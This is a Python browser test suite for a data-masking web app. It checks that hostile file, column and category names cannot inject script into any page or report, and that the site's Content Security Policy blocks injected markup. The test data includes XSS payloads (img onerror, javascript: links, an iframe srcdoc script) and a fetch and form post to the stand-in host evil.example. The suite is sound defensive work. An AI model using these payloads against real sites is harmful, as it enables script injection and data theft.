"""Hostile names of files, columns and categories in a real browser, over every step and report."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from tools.page_attack import HEADERS
from tools.page_attempts import COLUMNS, hostile_file

from app.conftest import (
    PATIENCE,
    Server,
    keep_steps,
    start,
    stop,
    wait_for_runs,
    wait_until_up,
)
from app.test_guard import until
from app.test_path import download
from tacit.report.assets import text

pytestmark = pytest.mark.needs("chromium")

# A slash cannot stand in the name of a file that a browser chooses.
NAME = "<img src=x onerror=alert(1)>\u202e'\"{{7*7}}.csv"


@pytest.fixture
def watched(browser, server: Server) -> Iterator[tuple[object, list[str]]]:
    """A tab of which everything that should not happen is noted."""
    context = browser.new_context(
        viewport={"width": 1280, "height": 860}, accept_downloads=True
    )
    context.set_default_timeout(PATIENCE)
    noted: list[str] = []

    def request(one) -> None:
        if not one.url.startswith((server.base, "data:", "blob:", "file:")):
            noted.append(f"request to {one.url}")

    def answered(one) -> None:
        """What the browser was told to forbid: the same on every page, part and download."""
        if not one.url.startswith(server.base):
            return
        for name, value in HEADERS.items():
            if value not in one.headers.get(name, ""):
                noted.append(f"{one.url} has no {name}")

    def said(message) -> None:
        if message.type in ("error", "warning"):
            noted.append(f"console: {message.text}")

    def asked(dialog) -> None:
        noted.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    context.on("request", request)
    context.on("response", answered)
    context.on("console", said)
    context.on("dialog", asked)
    context.on("weberror", lambda one: noted.append(f"error: {one.error}"))
    page = context.new_page()
    page.goto(server.address)
    yield page, noted
    context.close()


def no_markup_of_theirs(page) -> None:
    """No element and no handler that the file brought along; a report has one script of ours."""
    foreign = page.evaluate(
        """ours => [...document.querySelectorAll("*")].filter(one =>
            [...one.attributes].some(a => a.name.startsWith("on")) ||
            ["IMG", "IFRAME", "OBJECT", "EMBED", "BASE"].includes(one.tagName) ||
            (one.tagName === "SCRIPT" && !one.src.startsWith(location.origin + "/static/") &&
                one.textContent.trim() !== ours) ||
            (one.getAttribute("href") || "").startsWith("javascript:")
        ).map(one => one.outerHTML.slice(0, 200))""",
        text("sort.js").strip(),
    )
    assert foreign == []


def choose_method(page, method: str) -> None:
    """A plan of this one step."""
    # removed first: a new step begins with the columns that no other step touches
    keep_steps(page)
    page.select_option("#add", method)
    page.click("text=Add a step")
    page.wait_for_selector("[name='s0.method']")
    assert page.input_value("[name='s0.method']") == method
    page.wait_for_selector("#preview :is(.figures, .notice)")


def run(page) -> None:
    """Run the plan on the whole file."""
    page.wait_for_selector("#preview:not(.stale)")
    page.click("#run")
    page.wait_for_url("**/compare")


@pytest.mark.slow
def test_nothing_of_a_file_ever_runs(watched, tmp_path: Path) -> None:
    """Every step with its live parts, two methods, a refusal, and both reports from disk."""
    page, noted = watched
    source = tmp_path / NAME
    source.write_bytes(hostile_file())
    page.set_input_files("#file", source)
    page.wait_for_selector("table.raw")
    no_markup_of_theirs(page)
    # the mark that turns the direction of writing is shown as what it is: nothing to print;
    # browsers send quotes as %22
    shown = NAME.replace("\u202e", "\ufffd").replace('"', "%22")
    assert page.inner_text("h1") == shown
    heads = page.locator("table.raw th").all_inner_texts()
    assert heads == list(COLUMNS)
    address = page.url.rpartition("/")[0]

    page.goto(f"{address}/roles")
    page.wait_for_selector("#look:not(.stale)")
    for place in range(len(COLUMNS)):
        role = "quasi" if place < 4 else "confidential"
        page.select_option(f"[name='role.{place}']", role)
        page.wait_for_load_state("networkidle")
    page.wait_for_selector("#look .figures")
    page.click("#look summary")
    no_markup_of_theirs(page)

    page.goto(f"{address}/protect")
    choose_method(page, "pram")
    no_markup_of_theirs(page)
    page.select_option("#add", "recoding")
    page.click("text=Add a step")
    page.wait_for_selector("[name='s1.method']")
    # a mistake is quoted in a sentence, with the hostile name in it
    page.fill("[name='s1.p.hierarchies']", '{"<img src=x onerror=alert(1)>": 1}')
    page.wait_for_selector("#preview .notice.bad")
    no_markup_of_theirs(page)
    page.click("[aria-label='Remove step 2']")
    page.wait_for_selector("[name='s1.method']", state="detached")
    page.wait_for_selector("#preview:not(.stale)")
    # the run is named by its first column, shortened; the first two hold numbers, not categories
    run(page)
    wait_for_runs(page, 1)
    assert f"PRAM of {COLUMNS[2][:24]}" in page.inner_text("#live")
    no_markup_of_theirs(page)
    page.goto(f"{address}/protect")
    choose_method(page, "microaggregation")
    run(page)
    wait_for_runs(page, 2)
    no_markup_of_theirs(page)
    page.click("button:has-text('Make it the release')")
    page.wait_for_selector("tr.chosen")

    page.goto(f"{address}/release")
    no_markup_of_theirs(page)
    refused = page.goto(f"{address}/download/masked")
    if refused is not None and refused.status == 409:
        no_markup_of_theirs(page)
    page.goto(f"{address}/release")
    reports = [
        download(page, selector, tmp_path)
        for selector in ("#get-report", "#get-external")
    ]
    page.goto(f"{page.url.partition('/p/')[0]}/stream")
    no_markup_of_theirs(page)
    page.goto(page.url.partition("/stream")[0])
    no_markup_of_theirs(page)
    for place, report in enumerate(reports):
        local = tmp_path / f"report{place}.html"
        report.rename(local)
        page.goto(local.as_uri())
        assert page.locator("h1").count() == 1
        no_markup_of_theirs(page)
    # an answer of 409 is told on the console by the browser itself
    unexpected = [one for one in noted if "status of 409" not in one]
    assert unexpected == []


def test_the_policy_stops_what_would_run(watched) -> None:
    """The second line: markup that got in after all does not run, frame or send."""
    page, noted = watched
    page.evaluate(
        """() => { window.ran = 0;
        document.body.insertAdjacentHTML("beforeend",
          '<img src="x" onerror="window.ran=1"><a id="j" href="javascript:window.ran=1">j</a>' +
          '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>' +
          '<form id="f" action="http://evil.example/" method="post"></form>');
        const script = document.createElement("script");
        script.textContent = "window.ran = 1"; document.body.append(script);
        document.getElementById("j").click(); }"""
    )
    page.wait_for_function("true")
    sent = page.evaluate(
        "() => fetch('http://evil.example/').then(() => 'sent').catch(() => 'stopped')"
    )
    page.evaluate("() => document.getElementById('f').submit()")
    assert sent == "stopped"
    assert page.evaluate("window.ran") == 0
    assert not [one for one in noted if one.startswith(("request", "dialog"))]
    assert [one for one in noted if "Content Security Policy" in one]


@pytest.mark.slow
def test_the_browser_gets_in_by_the_private_file(browser, tmp_path: Path) -> None:
    """What `tacit app` opens leads in, also where strict cookies are kept back."""
    opened = tmp_path / "opened"
    program = tmp_path / "browser"
    program.write_text(
        f'#!/bin/sh\necho "$@" > {opened}.new; mv {opened}.new {opened}\n'
    )
    program.chmod(0o755)
    server = start(tmp_path, browser=str(program))
    try:
        wait_until_up(server)
        until(opened.exists)
        page = browser.new_page()
        page.set_default_timeout(PATIENCE)
        page.goto(opened.read_text().strip())
        page.wait_for_selector("h1:has-text('Release records')")
        assert page.url == server.base
        assert server.token not in page.evaluate("document.referrer")
        assert server.token not in page.evaluate("document.cookie")
        page.close()
    finally:
        stop(server)
